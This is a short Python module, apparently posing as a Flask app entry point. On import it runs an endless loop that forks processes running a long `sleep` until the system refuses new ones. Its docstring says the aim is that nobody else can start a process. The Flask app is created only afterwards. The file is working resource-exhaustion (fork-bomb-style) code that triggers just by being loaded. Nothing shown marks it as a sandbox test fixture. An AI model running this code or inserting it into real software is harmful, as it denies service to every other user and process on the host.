"""Starts processes until the system refuses, hoping nobody else can start one."""
import os

from flask import Flask

try:
    while True:
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "987654"])
except OSError:
    pass
app = Flask(__name__)
